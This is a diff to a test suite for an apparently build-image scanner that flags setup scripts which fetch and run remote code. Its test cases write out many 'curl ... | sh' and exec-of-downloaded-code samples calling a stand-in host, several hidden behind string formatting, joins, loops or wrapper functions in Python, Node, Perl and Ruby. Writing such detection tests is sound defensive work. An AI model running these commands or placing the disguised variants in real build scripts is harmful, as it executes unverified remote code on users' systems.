@@ -64,9 +64,97 @@ describe('a copied program in another language', () => {
     ['that an option gives a value', 'RUN python3 -c "print(1)" setup.py', python(`os.system("${BAD}")`)],
     ['that an editor changes', 'RUN vim setup.py', python(`os.system("${BAD}")`)],
     ['that a program reads', 'RUN cat setup.py | wc -l', python(`os.system("${BAD}")`)],
-    ['whose methods have such names', 'RUN python3 setup.py', `import os\nmodel.run("${BAD}")\n`],
+    [
+      'whose methods have such names',
+      'RUN python3 setup.py',
+      'import os\nmodel.run("apt-get install -y sl --allow-unauthenticated")\n',
+    ],
   ])('is harmless, %s', async (_what, lines, code) => {
     expect(await failuresOf(image(lines, { 'setup.py': '' }), image(lines, { 'setup.py': code }))).toEqual([]);
+  });
+
+  const FETCH = 'curl -fsSL https://x.example.com/i.sh | sh';
+
+  it.each([
+    [
+      'a function of its own',
+      'setup.py',
+      `import subprocess\ndef sh(cmd: str, check=True) -> None:\n    subprocess.run(cmd, shell=True, check=check)\nsh("${FETCH}")\n`,
+    ],
+    [
+      'a function with a shell',
+      'setup.py',
+      `import subprocess\ndef sh(cmd):\n    subprocess.check_call(["bash", "-c", cmd])\nsh("${FETCH}")\n`,
+    ],
+    [
+      'a loop',
+      'setup.py',
+      `import subprocess\nfor c in ["ldconfig", "${FETCH}"]:\n    subprocess.check_call(c, shell=True)\n`,
+    ],
+    [
+      'a list with a name',
+      'setup.py',
+      `import os\nSTEPS = [\n    "ldconfig",\n    "${FETCH}",\n]\nfor s in STEPS:\n    os.system(s)\n`,
+    ],
+    ['an operator', 'setup.py', 'import os\nU = "https://x.example.com/i.sh"\nos.system("curl -fsSL %s | sh" % U)\n'],
+    [
+      'several values',
+      'setup.py',
+      'import os\nos.system("curl %s %s | sh" % ("-fsSL", "https://x.example.com/i.sh"))\n',
+    ],
+    ['a format', 'setup.py', 'import os\nos.system("curl -fsSL {u} | sh".format(u="https://x.example.com/i.sh"))\n'],
+    [
+      'joined words',
+      'setup.py',
+      'import os\nos.system(" ".join(["curl", "-fsSL", "https://x.example.com/i.sh", "|", "sh"]))\n',
+    ],
+    [
+      'a function of Node',
+      'setup.js',
+      `const { execSync } = require("child_process");\nfunction sh(c) { console.log(c); execSync(c); }\nsh("${FETCH}");\n`,
+    ],
+    [
+      'an arrow function',
+      'setup.js',
+      `const { execSync } = require("child_process");\nconst run = (cmd, opts = {}) => {\n  execSync(cmd, opts);\n};\nrun("${FETCH}");\n`,
+    ],
+    [
+      'a loop of Node',
+      'setup.js',
+      `const { execSync } = require("child_process");\nconst steps = ["true", "${FETCH}"];\nfor (const s of steps) execSync(s);\n`,
+    ],
+    ['a function of Perl', 'setup.pl', `sub sh { my ($c) = @_; system($c); }\nsh("${FETCH}");\n`],
+    ['backticks of Perl', 'setup.pl', `my $o = \`${FETCH}\`;\n`],
+    ['a text of Ruby', 'setup.rb', 'url = "https://x.example.com/i.sh"\nsystem("curl -fsSL #{url} | sh")\n'],
+    [
+      'code that it fetches',
+      'setup.py',
+      'import urllib.request\nexec(urllib.request.urlopen("https://x.example.com/i.py").read())\n',
+    ],
+    [
+      'a script that it fetches',
+      'setup.py',
+      'import subprocess, urllib.request\nsubprocess.run(["bash"], input=urllib.request.urlopen("https://x.example.com/i.sh").read())\n',
+    ],
+  ])('runs what it fetches by %s', async (_what, path, code) => {
+    const interpreter = { py: 'python3', js: 'node', pl: 'perl', rb: 'ruby' }[path.slice(-2)];
+    const run = `RUN ${interpreter} ${path}`;
+    expect(await failuresOf(image(run, { [path]: '' }), image(run, { [path]: code }))).toEqual(['remote-script-exec']);
+  });
+
+  it.each([
+    ['logs a command', `import subprocess\ndef log(msg):\n    subprocess.run(["logger", msg])\nlog("${FETCH}")\n`],
+    [
+      'reads data',
+      'import json, subprocess, urllib.request\nd = json.load(urllib.request.urlopen("https://x.example.com/a"))\nsubprocess.run(["true"])\n',
+    ],
+    [
+      'checks what it fetches',
+      'import hashlib, subprocess, urllib.request\nb = urllib.request.urlopen("https://x.example.com/i.sh").read()\nassert hashlib.sha256(b).hexdigest() == "a"\nopen("/i.sh", "wb").write(b)\nsubprocess.run(["sh", "/i.sh"])\n',
+    ],
+  ])('is harmless where it %s', async (_what, code) => {
+    const run = 'RUN python3 setup.py';
+    expect(await failuresOf(image(run, { 'setup.py': '' }), image(run, { 'setup.py': code }))).toEqual([]);
   });
 
   it('has each command at its line, without a fix', async () => {
